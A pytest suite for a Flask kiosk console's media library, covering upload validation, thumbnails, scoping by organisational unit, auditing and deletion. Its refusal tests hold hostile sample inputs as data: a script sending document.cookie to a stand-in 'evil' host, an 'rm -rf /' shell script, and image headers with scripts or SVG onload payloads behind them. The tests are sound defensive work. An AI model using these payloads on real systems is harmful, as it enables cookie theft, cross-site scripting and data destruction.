"""The console's media library: sniffed, size-capped, fully decoded uploads; thumbnails; scope; audit."""

from __future__ import annotations

import hashlib
import html
import re
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from PIL import Image
from sqlalchemy import select
from sqlalchemy.orm import Session

from content.accounts.audit import AuditEntry
from content.library.items import Media
from content.org.tree import OrgUnit
from content.outbox import OutboxEvent
from content.signage.playlists import Playlist, PlaylistEntry
from kiosk_server import media_store
from kiosk_server.database import database
from kiosk_server.settings_access import settings
from tests.support.console_world import ConsoleWorld, build_console_world, csrf_now, sign_in

FIELD_ERROR = re.compile(r'<p class="field__error" id="f-([\w-]+)-error"><span aria-hidden="true">⚠ </span>(.*?)</p>')
ACCEPTED_ZH = "只接受 PNG、JPEG、GIF、WebP 图片或 MP4、WebM 视频"


@pytest.fixture
def cw(app: Flask) -> ConsoleWorld:
    return build_console_world(app)


def picture(size: tuple[int, int] = (800, 600), fmt: str = "PNG", exif: Image.Exif | None = None) -> bytes:
    """A real image with something drawn in it (so it does not compress to nothing)."""
    image = Image.new("RGB", size, (20, 90, 160))
    image.paste((240, 200, 30), (0, 0, size[0] // 2, size[1] // 3))
    out = BytesIO()
    image.save(out, fmt, **({"exif": exif} if exif is not None else {}))
    return out.getvalue()


def field_errors(page: Any) -> dict[str, str]:
    return {name: html.unescape(text) for name, text in FIELD_ERROR.findall(page.get_data(as_text=True))}


def upload(client: Any, data: bytes, filename: str, lang: str = "", **fields: Any) -> Any:
    form = {"csrf_token": csrf_now(client), "file": (BytesIO(data), filename), **fields}
    return client.post(
        f"/console/media{'?lang=' + lang if lang else ''}", data=form, content_type="multipart/form-data"
    )


def media_dir(app: Flask) -> Path:
    return settings(app).data_dir / "media"


def files(app: Flask) -> list[str]:
    folder = media_dir(app)
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def stored_media(app: Flask) -> list[Media]:
    with Session(database(app).engine) as session:
        found = list(session.scalars(select(Media).order_by(Media.id)))
        session.expunge_all()
        return found


def add_media(app: Flask, org_unit_id: int, title: str) -> int:
    """A media row written straight into the database (its bytes stored too), as another node would have it."""
    data = picture((64, 48))
    digest = hashlib.sha256(data).hexdigest()
    media_dir(app).mkdir(parents=True, exist_ok=True)
    (media_dir(app) / digest).write_bytes(data)
    with Session(database(app).engine) as session:
        item = Media(
            org_unit_id=org_unit_id,
            title=title,
            media_type="image",
            mime="image/png",
            sha256=digest,
            size_bytes=len(data),
        )
        session.add(item)
        session.commit()
        return item.id


def test_a_png_upload_is_stored_by_checksum_with_a_served_thumbnail(cw: ConsoleWorld, client: Any, app: Flask) -> None:
    sign_in(client, "editor")
    data = picture((800, 600))
    done = upload(client, data, "招聘会海报.png", org_unit_id=str(cw.world.county_id))
    assert done.status_code == 302, field_errors(done)
    (item,) = stored_media(app)
    digest = hashlib.sha256(data).hexdigest()
    assert (item.title, item.sha256, item.size_bytes, item.mime, item.org_unit_id) == (
        "招聘会海报",
        digest,
        len(data),
        "image/png",
        cw.world.county_id,
    )
    assert files(app) == [digest, f"{digest}.thumb.webp"]
    thumb = client.get(f"/media/{digest}/thumb")
    assert thumb.status_code == 200 and thumb.mimetype == "image/webp"
    assert thumb.headers["X-Content-Type-Options"] == "nosniff"
    assert Image.open(BytesIO(thumb.data)).size == (320, 240)
    grid = client.get("/console/media").get_data(as_text=True)
    assert f'src="/media/{digest}/thumb"' in grid and digest[:16] in grid and "已上传：招聘会海报" in grid
    with Session(database(app).engine) as session:
        event = session.scalars(select(OutboxEvent).order_by(OutboxEvent.id.desc())).first()
        assert event is not None and event.payload == {"kind": "media", "id": item.id, "action": "created"}
        entry = session.scalars(select(AuditEntry).where(AuditEntry.object_kind == "media")).one()
        county = session.get(OrgUnit, cw.world.county_id)
        assert (entry.actor, entry.action, entry.object_id) == ("editor", "created", str(item.id))
        assert entry.summary["after"]["sha256"] == digest and entry.org_path == county.path


def test_a_sideways_photo_gets_an_upright_thumbnail(cw: ConsoleWorld, client: Any, app: Flask) -> None:
    sign_in(client, "editor")
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: the camera was turned; show it rotated 90° clockwise
    done = upload(client, picture((640, 320), "JPEG", exif), "现场.jpg", org_unit_id=str(cw.world.city_id))
    assert done.status_code == 302, field_errors(done)
    (item,) = stored_media(app)
    assert Image.open(media_dir(app) / media_store.thumbnail_name(item.sha256)).size == (160, 320)


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (b"<!doctype html><html><script>fetch('/console/users')</script></html>", "photo.png"),
        (b"alert(document.cookie);\nnew Image().src='//evil/'+document.cookie;", "banner.png"),
        (b"#!/bin/sh\nrm -rf /\n", "logo.jpg"),
    ],
)
def test_a_script_or_page_named_as_an_image_is_refused(
    cw: ConsoleWorld, client: Any, app: Flask, data: bytes, filename: str
) -> None:
    sign_in(client, "editor")
    page = upload(client, data, filename, org_unit_id=str(cw.world.city_id), title="海报")
    assert page.status_code == 400
    errors = field_errors(page)
    assert list(errors) == ["file"]
    assert "文件开头是文本" in errors["file"] and ACCEPTED_ZH in errors["file"]
    assert stored_media(app) == [] and files(app) == []


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n<script>alert(document.cookie)</script>",  # a PNG's first bytes, then a script
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00<svg onload=alert(1)>",  # a JPEG's, then markup
        picture((40, 30)) + b"<script>alert(document.cookie)</script>",  # a whole PNG with a script after its end
    ],
)
def test_an_image_header_with_a_script_behind_it_is_refused(
    cw: ConsoleWorld, client: Any, app: Flask, data: bytes
) -> None:
    sign_in(client, "editor")
    page = upload(client, data, "poster.png", org_unit_id=str(cw.world.city_id))
    assert page.status_code == 400
    assert "图片无法完整解码" in field_errors(page)["file"]
    assert stored_media(app) == [] and files(app) == []  # not even a temporary file is left


def test_a_file_over_the_cap_is_refused_in_megabytes(
    cw: ConsoleWorld, client: Any, app: Flask, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(media_store, "MAX_BYTES", 2 * 1024 * 1024)  # read on every upload
    sign_in(client, "editor")
    big = picture((64, 64)) + b"\0" * (3 * 1024 * 1024)
    page = upload(client, big, "big.png", org_unit_id=str(cw.world.city_id))
    assert page.status_code == 400 and field_errors(page)["file"] == "文件超过 2 MB 的上限，请压缩后再上传"
    english = upload(client, big, "big.png", lang="en", org_unit_id=str(cw.world.city_id))
    assert field_errors(english)["file"] == "The file is larger than the 2 MB limit"
    assert "(PNG, JPEG, GIF or WebP image, MP4 or WebM video, 2 MB at most)" in english.get_data(as_text=True)
    assert stored_media(app) == [] and files(app) == []


def test_the_same_bytes_twice_share_one_stored_file(cw: ConsoleWorld, client: Any, app: Flask) -> None:
    sign_in(client, "editor")
    data = picture((300, 300))
    upload(client, data, "a.png", org_unit_id=str(cw.world.city_id))
    again = upload(client, data, "b.png", org_unit_id=str(cw.world.county_id))
    assert again.status_code == 302
    first, second = stored_media(app)
    assert first.sha256 == second.sha256 and first.id != second.id
    assert files(app) == [first.sha256, f"{first.sha256}.thumb.webp"]
    assert "复用了同一份文件" in client.get("/console/media").get_data(as_text=True)


def test_a_video_is_stored_without_a_thumbnail_and_shows_an_icon(cw: ConsoleWorld, client: Any, app: Flask) -> None:
    sign_in(client, "editor")
    mp4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64
    assert upload(client, mp4, "宣传片.mp4", org_unit_id=str(cw.world.city_id)).status_code == 302
    (item,) = stored_media(app)
    assert (item.media_type, item.mime) == ("video", "video/mp4") and files(app) == [item.sha256]
    grid = client.get("/console/media").get_data(as_text=True)
    assert 'class="library-video"' in grid and f"/media/{item.sha256}/thumb" not in grid
    assert client.get(f"/media/{item.sha256}/thumb").status_code == 404


def test_every_upload_field_is_checked_at_once(cw: ConsoleWorld, client: Any, app: Flask) -> None:
    sign_in(client, "editor")
    page = client.post(
        "/console/media",
        data={
            "csrf_token": csrf_now(client),
            "title": "x" * 201,
            "org_unit_id": "",
            "valid_from": "明天",
            "duration_seconds": "0",
        },
        content_type="multipart/form-data",
    )
    assert page.status_code == 400
    assert field_errors(page) == {
        "file": "请选择要上传的文件",
        "title": "不能超过200个字",
        "org_unit_id": "请选择",
        "valid_from": "请填写完整的日期和时间",
        "duration_seconds": "不能小于1",
    }
    assert "请更正标出的项目" in page.get_data(as_text=True)


def test_the_window_must_end_after_it_starts_and_nothing_is_stored(cw: ConsoleWorld, client: Any, app: Flask) -> None:
    sign_in(client, "editor")
    page = upload(
        client,
        picture(),
        "a.png",
        org_unit_id=str(cw.world.city_id),
        valid_from="2026-12-05T09:00",
        valid_until="2026-12-05T08:00",
    )
    assert page.status_code == 400 and field_errors(page) == {"valid_until": "停止显示的时间须晚于开始显示的时间"}
    assert stored_media(app) == [] and files(app) == []


def test_an_owner_outside_the_scope_is_refused(cw: ConsoleWorld, client: Any, app: Flask) -> None:
    sign_in(client, "editor")  # 兰州市
    page = upload(client, picture(), "a.png", org_unit_id=str(cw.other_city_id))
    assert field_errors(page) == {"org_unit_id": "只能选择您管辖范围内的机构"}
    page = upload(client, picture(), "a.png", org_unit_id=str(cw.world.province_id))  # above the editor's node
    assert field_errors(page) == {"org_unit_id": "只能选择您管辖范围内的机构"}
    assert stored_media(app) == []


def test_media_outside_the_scope_is_not_listed_and_answers_404(cw: ConsoleWorld, client: Any, app: Flask) -> None:
    theirs = add_media(app, cw.other_city_id, "天水市宣传图")
    sign_in(client, "editor")
    assert "天水市宣传图" not in client.get("/console/media").get_data(as_text=True)
    token = csrf_now(client)
    assert client.get(f"/console/media/{theirs}").status_code == 404
    assert client.post(f"/console/media/{theirs}", data={"csrf_token": token, "title": "改掉"}).status_code == 404
    assert client.post(f"/console/media/{theirs}/archive", data={"csrf_token": token}).status_code == 404
    assert client.post(f"/console/media/{theirs}/delete", data={"csrf_token": token}).status_code == 404
    (item,) = stored_media(app)
    assert (item.title, item.status) == ("天水市宣传图", "published")


def test_a_hall_manager_sees_their_halls_node_and_above_read_only(cw: ConsoleWorld, client: Any, app: Flask) -> None:
    above = add_media(app, cw.world.province_id, "全省宣传图")
    add_media(app, cw.other_city_id, "天水市宣传图")
    sign_in(client, "manager")  # the hall lies in 城关区, below 兰州市 and 甘肃省
    grid = client.get("/console/media").get_data(as_text=True)
    assert "全省宣传图" in grid and "天水市宣传图" not in grid
    assert "上级发布，只读" in grid and 'name="file"' not in grid and f"/console/media/{above}" not in grid
    assert client.get(f"/console/media/{above}").status_code == 403


def test_editing_changes_the_item_and_is_audited(cw: ConsoleWorld, client: Any, app: Flask) -> None:
    sign_in(client, "editor")
    upload(client, picture(), "a.png", org_unit_id=str(cw.world.city_id))
    (item,) = stored_media(app)
    form = client.get(f"/console/media/{item.id}").get_data(as_text=True)
    assert f'id="sha256">{item.sha256}</code>' in form
    done = client.post(
        f"/console/media/{item.id}",
        data={
            "csrf_token": csrf_now(client),
            "title": "春风行动海报",
            "org_unit_id": str(cw.world.county_id),
            "valid_from": "",
            "valid_until": "2026-12-31T18:00",
            "duration_seconds": "12",
        },
    )
    assert done.status_code == 302
    (changed,) = stored_media(app)
    assert (changed.title, changed.org_unit_id, changed.duration_seconds) == ("春风行动海报", cw.world.county_id, 12)
    assert changed.valid_until is not None and changed.valid_until.isoformat() == "2026-12-31T10:00:00+00:00"
    with Session(database(app).engine) as session:
        entry = session.scalars(select(AuditEntry).order_by(AuditEntry.id.desc())).first()
        assert entry is not None and entry.action == "updated"
        assert entry.summary["changed"]["title"] == ["a", "春风行动海报"]
        assert entry.summary["changed"]["org_unit_id"] == [cw.world.city_id, cw.world.county_id]
        event = session.scalars(select(OutboxEvent).order_by(OutboxEvent.id.desc())).first()
        assert event is not None and event.payload == {"kind": "media", "id": item.id, "action": "updated"}


def test_an_edit_with_problems_says_each_and_changes_nothing(cw: ConsoleWorld, client: Any, app: Flask) -> None:
    sign_in(client, "editor")
    upload(client, picture(), "a.png", org_unit_id=str(cw.world.city_id))
    (item,) = stored_media(app)
    page = client.post(
        f"/console/media/{item.id}?lang=en",
        data={
            "csrf_token": csrf_now(client),
            "title": " ",
            "org_unit_id": str(cw.world.city_id),
            "valid_from": "2026-12-05T09:00",
            "valid_until": "2026-12-04T09:00",
            "duration_seconds": "1.5",
        },
    )
    assert page.status_code == 400
    assert field_errors(page) == {
        "title": "Fill this in",
        "duration_seconds": "Enter a whole number",
        "valid_until": "Must be after the start",
    }
    page = client.post(
        f"/console/media/{item.id}?lang=zh-CN",
        data={
            "csrf_token": csrf_now(client),
            "title": "b",
            "org_unit_id": str(cw.world.city_id),
            "valid_from": "2026-12-05T09:00",
            "valid_until": "2026-12-04T09:00",
        },
    )
    assert field_errors(page) == {"valid_until": "停止显示的时间须晚于开始显示的时间"}
    (unchanged,) = stored_media(app)
    assert (unchanged.title, unchanged.valid_from, unchanged.valid_until) == ("a", None, None)


def test_archive_then_delete_unless_a_playlist_plays_it(cw: ConsoleWorld, client: Any, app: Flask) -> None:
    sign_in(client, "editor")
    upload(client, picture(), "a.png", org_unit_id=str(cw.world.city_id))
    (item,) = stored_media(app)
    with Session(database(app).engine) as session:
        playlist = Playlist(org_unit_id=cw.world.city_id, name="大厅轮播")
        playlist.entries = [PlaylistEntry(position=0, kind="item", item_id=item.id, duration_seconds=10)]
        session.add(playlist)
        session.commit()
        playlist_id = playlist.id
    refused = client.post(f"/console/media/{item.id}/delete", data={"csrf_token": csrf_now(client)})
    assert refused.status_code == 409 and "正用于 1 个播放列表" in field_errors(refused)["delete"]
    assert client.post(f"/console/media/{item.id}/archive", data={"csrf_token": csrf_now(client)}).status_code == 302
    assert stored_media(app)[0].status == "archived"
    assert f'data-item="{item.id}"' not in client.get("/console/media").get_data(as_text=True)
    assert f'data-item="{item.id}"' in client.get("/console/media?status=archived").get_data(as_text=True)
    with Session(database(app).engine) as session:
        session.delete(session.get(Playlist, playlist_id))
        session.commit()
    assert client.post(f"/console/media/{item.id}/delete", data={"csrf_token": csrf_now(client)}).status_code == 302
    assert stored_media(app) == []
    assert client.get(f"/media/{item.sha256}").status_code == 404  # the file stays, unreachable
    with Session(database(app).engine) as session:
        actions = [
            e.action
            for e in session.scalars(
                select(AuditEntry).where(AuditEntry.object_kind == "media").order_by(AuditEntry.id)
            )
        ]
        assert actions == ["created", "archived", "deleted"]
        kinds = [
            e.payload.get("action")
            for e in session.scalars(select(OutboxEvent).order_by(OutboxEvent.id))
            if e.payload.get("kind") == "media"
        ]
        assert kinds == ["created", "archived", "deleted"]


def test_the_api_refuses_what_the_console_refuses(
    cw: ConsoleWorld, client: Any, app: Flask, auth_headers: dict[str, str]
) -> None:
    """One store for both: a PNG header with a script behind it is refused over REST as well."""
    form = {
        "org_unit_id": str(cw.world.city_id),
        "file": (BytesIO(b"\x89PNG\r\n\x1a\n<script>alert(1)</script>"), "poster.png"),
    }
    answer = client.post("/api/v1/media", data=form, content_type="multipart/form-data", headers=auth_headers)
    assert answer.status_code == 422 and answer.json["errors"][0]["field"] == "file"
    assert "not a complete image/png image" in answer.json["errors"][0]["message"]
    assert files(app) == []


def test_an_image_uploaded_over_rest_gets_its_thumbnail_when_first_asked(
    cw: ConsoleWorld, client: Any, app: Flask, auth_headers: dict[str, str]
) -> None:
    form = {"org_unit_id": str(cw.world.city_id), "file": (BytesIO(picture((640, 640))), "logo.png")}
    made = client.post("/api/v1/media", data=form, content_type="multipart/form-data", headers=auth_headers)
    assert made.status_code == 201 and files(app) == [made.json["sha256"]]
    thumb = client.get(f"/media/{made.json['sha256']}/thumb")
    assert thumb.status_code == 200 and Image.open(BytesIO(thumb.data)).size == (320, 320)
    assert files(app) == [made.json["sha256"], f"{made.json['sha256']}.thumb.webp"]


def test_an_id_beyond_any_row_is_404_not_an_error(cw: ConsoleWorld, client: Any) -> None:
    sign_in(client, "admin")
    assert client.get(f"/console/media/{2**40}").status_code == 404
